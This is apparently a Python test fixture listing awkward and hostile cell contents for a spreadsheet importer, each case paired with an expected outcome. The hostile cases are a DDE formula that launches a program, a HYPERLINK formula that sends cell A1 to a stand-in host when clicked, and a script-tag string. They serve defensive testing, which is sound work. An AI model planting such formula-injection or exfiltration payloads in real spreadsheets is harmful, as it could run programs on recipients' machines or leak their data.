"""Texts, formulas and errors that people and programs put into cells."""

from __future__ import annotations

import unicodedata
from collections.abc import Callable
from datetime import date

from openpyxl.cell.rich_text import CellRichText, TextBlock
from openpyxl.cell.text import InlineFont
from openpyxl.worksheet.formula import ArrayFormula
from openpyxl.worksheet.worksheet import Worksheet

from tests.exchange.breaking import (
    AWARDS,
    DAY,
    ID,
    MONEY,
    PROJECTS,
    SHARE,
    TITLE,
    Broken,
    Build,
    Package,
    cell_of,
    in_cell,
    in_sheet,
    package,
    raw_cell,
    raw_text,
    texted,
    typed,
)


def _title_as(write: Callable[[str], object]) -> Build:
    """The title that is there, written in another way."""
    return in_cell(PROJECTS, TITLE, lambda cell: setattr(cell, "value", write(str(cell.value))))


def _rich(text: str) -> CellRichText:
    middle = len(text) // 2
    return CellRichText(TextBlock(InlineFont(b=True), text[:middle]), text[middle:])


def _error(sheet: str, header: str, code: str) -> Build:
    """A cell that shows an error, as a formula left it behind."""
    return raw_cell(sheet, header, f"<v>{code}</v>", "e")


def _phonetic(book: Package) -> None:
    """The title with a reading aid, as Japanese programs add it."""
    title = book.value(PROJECTS, TITLE).replace("&", "&amp;").replace("<", "&lt;")
    aid = '<rPh sb="0" eb="1"><t>フリガナ</t></rPh><phoneticPr fontId="1"/>'
    book.fill(PROJECTS, TITLE, f"<is><t>{title}</t>{aid}</is>", "inlineStr")


def _formula_kept(book: Package) -> None:
    """A formula whose last result is the value that was there."""
    book.fill(AWARDS, MONEY, f"<f>SUM(1,2)</f><v>{book.value(AWARDS, MONEY)}</v>")


def _array(sheet: Worksheet) -> None:
    cell = cell_of(sheet, MONEY)
    sheet[cell.coordinate] = ArrayFormula(cell.coordinate, "=SUM({1,2}*{3,4})")


_OUTSIDE = "HYPERLINK(&quot;http://127.0.0.1:9/?x=&quot;&amp;A1,&quot;Titel&quot;)"
_TEXTS = (
    Broken(
        "title-trailing-blanks",
        _title_as(lambda title: f"{title}   "),
        expects="same",
        why="Blanks at the end are not meant.",
    ),
    Broken(
        "title-no-break-space",
        _title_as(lambda title: f"\u00a0{title}\u00a0"),
        expects="same",
        why="Nor are those that come with copied web pages.",
    ),
    Broken(
        "title-decomposed",
        _title_as(lambda title: unicodedata.normalize("NFD", title)),
        expects="same",
        why="Umlauts as a Mac writes them.",
    ),
    Broken("title-bold-in-part", _title_as(_rich), expects="same", why="The same text in two looks."),
    Broken("title-with-reading-aid", package(_phonetic), expects="same", why="A reading aid is no part of the text."),
    Broken("title-emptied", typed(PROJECTS, TITLE, None), expects="fault", why="A project has a title."),
    Broken("title-only-blanks", typed(PROJECTS, TITLE, " \u00a0 "), expects="fault", why="Blanks are no title."),
    Broken(
        "title-a-number",
        typed(PROJECTS, TITLE, 2026),
        expects="change",
        why="A number may be a title; it is read as it is shown.",
    ),
    Broken(
        "title-a-long-number",
        typed(PROJECTS, TITLE, 12345678901234567890),
        expects="fault",
        why="Excel has lost its last digits.",
    ),
    Broken(
        "title-a-day",
        typed(PROJECTS, TITLE, date(2026, 3, 4), "dd.mm."),
        expects="fault",
        why="Excel made a day of “4-3”.",
    ),
    Broken("title-true", typed(PROJECTS, TITLE, True), expects="fault", why="Excel made TRUE of a word."),
    Broken("title-two-lines", typed(PROJECTS, TITLE, "Radnetz\nRuhr"), expects="fault", why="A title has one line."),
    Broken("title-tab", typed(PROJECTS, TITLE, "Radnetz\tRuhr"), expects="fault", why="A tab is a control character."),
    Broken(
        "title-nul-escaped",
        raw_text(PROJECTS, TITLE, "Rad_x0000_netz"),
        expects="fault",
        why="Excel's way to write a NUL.",
    ),
    Broken(
        "title-control-escaped",
        raw_text(PROJECTS, TITLE, "Rad_x000B_netz"),
        expects="fault",
        why="Excel's way to write a control character.",
    ),
    Broken(
        "title-surrogate-escaped",
        raw_text(PROJECTS, TITLE, "Rad_xD800_netz"),
        expects="change",
        why="Half a character is no escape: it stays the text that stands there, and never half a character.",
    ),
    Broken(
        "title-bidi-override",
        typed(PROJECTS, TITLE, "Rad\u202eztennetz\u202c"),
        expects="fault",
        why="It shows other letters than it holds.",
    ),
    Broken(
        "title-bidi-isolate",
        typed(PROJECTS, TITLE, "Rad\u2066netz\u2069"),
        expects="fault",
        why="It may show other letters than it holds.",
    ),
    Broken("title-no-character", raw_text(PROJECTS, TITLE, "Rad\ufffenetz"), why="U+FFFE is no character of XML."),
    Broken(
        "title-dde-text",
        texted(PROJECTS, TITLE, "=cmd|' /C calc'!A0"),
        expects="change",
        why="As a text it is one; it must never be given out as a formula.",
    ),
    Broken(
        "title-plus-text",
        texted(PROJECTS, TITLE, "+49 201 Radnetz"),
        expects="change",
        why="As a text it is one; it must never be given out as a formula.",
    ),
    Broken(
        "title-markup",
        texted(PROJECTS, TITLE, "<script>alert(1)</script>"),
        expects="change",
        why="As a text it is one; it must never be shown as a script.",
    ),
)
_FORMULAS = (
    Broken(
        "formula-without-result",
        typed(AWARDS, MONEY, "=1000+234"),
        expects="fault",
        why="Nobody has worked it out: the cell is empty for a reader.",
    ),
    Broken(
        "formula-with-result",
        package(_formula_kept),
        expects="same",
        why="What the formula gives is what stood there before: nothing would change.",
    ),
    Broken(
        "formula-of-text",
        raw_cell(PROJECTS, TITLE, '<f>"Rad"&amp;"netz"</f><v>Radnetz</v>', "str"),
        expects="fault",
        why="What a formula showed last is nobody's statement.",
    ),
    Broken("formula-array", in_sheet(AWARDS, _array), expects="fault", why="A formula over several cells."),
    Broken(
        "formula-shared",
        raw_cell(AWARDS, MONEY, '<f t="shared" si="7"/><v>12</v>'),
        expects="fault",
        why="A formula that stands elsewhere.",
    ),
    Broken(
        "formula-to-the-web",
        raw_cell(PROJECTS, TITLE, f"<f>{_OUTSIDE}</f><v>Titel</v>", "str"),
        expects="fault",
        why="It would carry cells away when it is clicked.",
    ),
    Broken(
        "formula-dde",
        raw_cell(PROJECTS, TITLE, "<f>cmd|' /C calc'!A0</f><v>Titel</v>", "str"),
        expects="fault",
        why="It would start a program.",
    ),
    Broken("formula-in-day", typed(PROJECTS, DAY, "=TODAY()"), expects="fault", why="Another day tomorrow."),
    Broken(
        "formula-in-id", typed(PROJECTS, ID, '=LOWER("A")'), expects="fault", why="An id is given out, not worked out."
    ),
    Broken("error-in-money", _error(AWARDS, MONEY, "#REF!"), expects="fault", why="The cell shows an error."),
    Broken("error-in-share", _error(AWARDS, SHARE, "#DIV/0!"), expects="fault", why="The cell shows an error."),
    Broken(
        "error-in-title",
        _error(PROJECTS, TITLE, "#N/A"),
        expects="fault",
        why="The cell shows an error; it is no title.",
    ),
    Broken("error-in-day", _error(PROJECTS, DAY, "#VALUE!"), expects="fault", why="The cell shows an error."),
    Broken(
        "error-unknown", _error(PROJECTS, TITLE, "#KAPUTT!"), expects="refused", why="An error that no program knows."
    ),
)
TEXTS = (*_TEXTS, *_FORMULAS)
